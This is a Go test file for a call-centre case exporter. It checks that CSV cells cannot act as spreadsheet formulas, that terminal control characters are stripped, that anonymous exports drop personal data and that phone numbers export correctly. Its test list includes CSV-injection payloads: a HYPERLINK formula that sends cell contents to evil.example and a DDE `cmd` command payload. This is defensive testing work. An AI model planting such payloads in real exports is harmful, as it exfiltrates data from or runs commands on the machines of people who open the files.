package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"ringback/callback"
)

// formulas are what a spreadsheet would compute, and what looks like it.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x",
	"  =1+1", "\u00a0=1", `"=1+1`, `=cmd|' /C calc'!A0`, "'=1", "1=1", "a@b.example",
}

func TestWordsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	for _, text := range formulas {
		t.Run(text, func(t *testing.T) { neutral(t, Words(text)) })
	}
	rapid.Check(t, func(rt *rapid.T) { neutral(t, Words(rapid.String().Draw(rt, "text"))) })
	if got := Words("Nobody came - 2 times"); got != "Nobody came - 2 times" {
		t.Errorf("harmless words became %q", got)
	}
}

func neutral(t *testing.T, cell string) {
	t.Helper()
	if first := strings.TrimLeft(cell, " \u00a0\u3000"); first != "" && strings.ContainsAny(first[:1], "=+-@\t\r\n") || strings.HasPrefix(first, "＝") {
		t.Errorf("the cell %q would be computed", cell)
	}
	if strings.ContainsAny(cell, "\x00\x07\x1b\u009b\u202e") {
		t.Errorf("the cell %q can act on a terminal", cell)
	}
}

// filled is a value with every field set: texts to the mark, numbers to three, lists to one entry.
func filled(v reflect.Value, mark string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(mark)
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Uint64:
		v.SetUint(3)
	case reflect.Float64:
		v.SetFloat(0.5)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		filled(v.Elem(), mark)
	case reflect.Slice:
		if v.Type() == reflect.TypeFor[json.RawMessage]() {
			v.SetBytes([]byte(`"` + mark + `"`))
			return
		}
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		filled(v.Index(0), mark)
	case reflect.Map:
		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		filled(key, mark)
		filled(value, mark)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, value)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC)))
			return
		}
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				filled(v.Field(i), mark)
			}
		}
	}
}

func fullCase(mark string) (c callback.Case) {
	filled(reflect.ValueOf(&c).Elem(), mark)
	return c
}

// Every text of a case comes from outside: none of it may reach a file as a formula, in no table and no column.
func TestNoColumnLetsAFormulaThrough(t *testing.T) {
	t.Parallel()
	for _, table := range Tables() {
		for _, text := range formulas {
			var b bytes.Buffer
			f, err := NewCSV(&b, Options{Table: table})
			if err != nil {
				t.Fatal(err)
			}
			if err := f.Case(fullCase(text)); err != nil {
				t.Fatal(err)
			}
			if n, err := f.Close(); n < 1 || err != nil {
				t.Fatalf("%s: %d rows, %v", table, n, err)
			}
			lines, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatalf("%s is no CSV: %v", table, err)
			}
			for i, cell := range lines[1] {
				if neutral(t, cell); t.Failed() {
					t.Fatalf("in column %s of %s", lines[0][i], table)
				}
			}
		}
	}
}

// What an anonymous file still holds is decided here: a field that is added to a case is left out until its path is
// on this list.
func TestAnonymousLeavesOut(t *testing.T) {
	t.Parallel()
	keeps := []string{
		"adhoc.answer", "adhoc.by", "adhoc.joined", "assigned.by", "assigned.to", "attempts.agent", "attempts.custom", "attempts.direction", "attempts.disposition", "attempts.event_id",
		"attempts.guide", "attempts.id", "attempts.shadowed", "barred.case_id", "barred.event_id",
		"cooled_off.case_id", "cooled_off.cause", "cooled_off.response_id", "joined_to", "renumbered.by", "renumbered.event_id", "renumbered.response", "renumbered.what", "closing.by", "closing.event_id", "closing.resolution",
		"customer.language", "escalations.by", "escalations.cause", "escalations.ended_by", "escalations.event_id", "escalations.outcome", "escalations.taken_by",
		"escalations.to", "hold.by", "hold.cause", "hold.event_id", "missed.owner", "customer.phone.region", "customer.phone.zones", "customer.role", "fence_by", "id", "kind", "language_heard",
		"notes.by", "notes.event_id", "promises.id", "promises.made_by", "promises.owner", "promises.settled_by", "promises.status",
		"responses.channel", "responses.id", "responses.language", "responses.product", "responses.source",
		"root_cause.cause", "root_cause.control", "root_cause.driver",
		"scores.answer", "scores.attempt_id", "scores.collected_by", "scores.id", "scores.mode", "scores.role", "scores.shadowed", "scores.wording",
		"skips.by", "skips.code", "state", "team",
	}
	var b bytes.Buffer
	f := NewLines(&b, Options{Anonymous: true})
	if err := f.Case(fullCase("MARK")); err != nil {
		t.Fatal(err)
	}
	var doc any
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	marked(doc, "", found)
	for path := range found {
		if !slices.Contains(keeps, path) && !strings.HasPrefix(path, "lease.") && !strings.HasPrefix(path, "plan.") {
			t.Errorf("an anonymous file tells %s", path)
		}
	}
	for _, path := range keeps {
		if !found[path] {
			t.Errorf("an anonymous file should still tell %s", path)
		}
	}
	for _, table := range Tables() {
		b.Reset()
		f, err := NewCSV(&b, Options{Table: table, Anonymous: true})
		if err != nil {
			t.Fatal(err)
		}
		c := fullCase("x")
		c.Customer = callback.Customer{
			Name: "MARK", Ref: "MARK", Account: "MARK", Email: "MARK", Phone: callback.Phone{E164: "+123456", Raw: "MARK"},
			Others: []callback.Phone{{E164: "+1123456", Ext: "123456", Raw: "MARK"}},
		}
		c.Responses[0].Comment, c.Attempts[0].Note, c.Promises[0].Text, c.Root.Text, c.Attempts[0].Answers[0].Answer = "MARK", "MARK", "MARK", "MARK", "MARK"
		c.Attempts[0].Number = "+123456"
		if err := f.Case(c); err != nil {
			t.Fatal(err)
		}
		if _, err := f.Close(); err != nil || strings.Contains(b.String(), "MARK") || strings.Contains(b.String(), "123456") {
			t.Errorf("anonymous %s: %v %s", table, err, b.String())
		}
	}
}

func marked(v any, path string, found map[string]bool) {
	switch v := v.(type) {
	case string:
		if strings.Contains(v, "MARK") {
			found[strings.TrimPrefix(path, ".")] = true
		}
	case []any:
		for _, x := range v {
			marked(x, path, found)
		}
	case map[string]any:
		for k, x := range v {
			marked(x, path+"."+k, found)
		}
	}
}

// Every number of a customer is written, with where it rings and whether it may
// be dialled.
func TestAllNumbersAreWritten(t *testing.T) {
	t.Parallel()
	var c callback.Case
	c.ID = "ca-1"
	c.Customer = callback.Customer{
		Name: "=Eve", Phone: callback.Phone{E164: "+447700900123", Kind: callback.PhoneMobile, Region: "GB", Zones: []string{"Europe/London"}},
		Others: []callback.Phone{
			{E164: "+442079460999", Ext: "12", Raw: "+44 20 7946 0999 x12", Kind: callback.PhoneWork, Invalid: true}, {E164: "+34600000001", Barred: true},
		},
	}
	c.Attempts = []callback.Attempt{{Number: "+442079460999"}, {Number: "+447700900123", Direction: callback.Inbound}}
	read := func(table Table) [][]string {
		var b bytes.Buffer
		f, err := NewCSV(&b, Options{Table: table})
		if err != nil {
			t.Fatal(err)
		}
		if err := f.Case(c); err != nil {
			t.Fatal(err)
		}
		if _, err := f.Close(); err != nil {
			t.Fatal(err)
		}
		lines, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return lines
	}
	cases := read(Cases)
	if got := cases[1][slices.Index(cases[0], "all_phone_digits")]; got != "447700900123 442079460999 34600000001" {
		t.Errorf("on the case: %q", got)
	}
	want := [][]string{
		{"ca-1", "'=Eve", "", "447700900123", "", "", "mobile", "GB", "Europe/London", "yes", "no", "no", "no"},
		{"ca-1", "'=Eve", "", "442079460999", "12", "'+44 20 7946 0999 x12", "work", "", "", "no", "yes", "no", "yes"},
		{"ca-1", "'=Eve", "", "34600000001", "", "", "", "", "", "no", "no", "yes", "no"},
	}
	if diff := cmp.Diff(want, read(Numbers)[1:]); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
	c.Customer = callback.Customer{Name: "Nobody"}
	if got := read(Numbers); len(got) != 1 {
		t.Errorf("no number gives %v", got[1:])
	}
}

// A number of a telephone keeps its digits, and a comment its lines and quotes.
func TestCSVReadsBack(t *testing.T) {
	t.Parallel()
	var c callback.Case
	three := 3
	c.ID, c.Customer.Phone.E164, c.Customer.Name = "ca-1", "+447700900123", "Ольга, «Лена»"
	c.Responses = []callback.Response{{Score: &three, Comment: "line one\nline \"two\""}}
	var b bytes.Buffer
	f, err := NewCSV(&b, Options{Table: Cases, BOM: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Case(c); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Close(); err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(b.String(), "\ufeff")
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if !ok || err != nil || len(lines) != 2 {
		t.Fatal(ok, err, len(lines))
	}
	for name, want := range map[string]string{
		"phone_digits": "447700900123", "customer": "Ольга, «Лена»", "comment": "line one\nline \"two\"", "score": "3", "category": "detractor", "closed_at": "",
	} {
		if got := lines[1][slices.Index(lines[0], name)]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if _, err := NewCSV(&b, Options{Table: "people"}); err == nil || !strings.Contains(err.Error(), "cases, attempts") {
		t.Errorf("an unknown table: %v", err)
	}
}
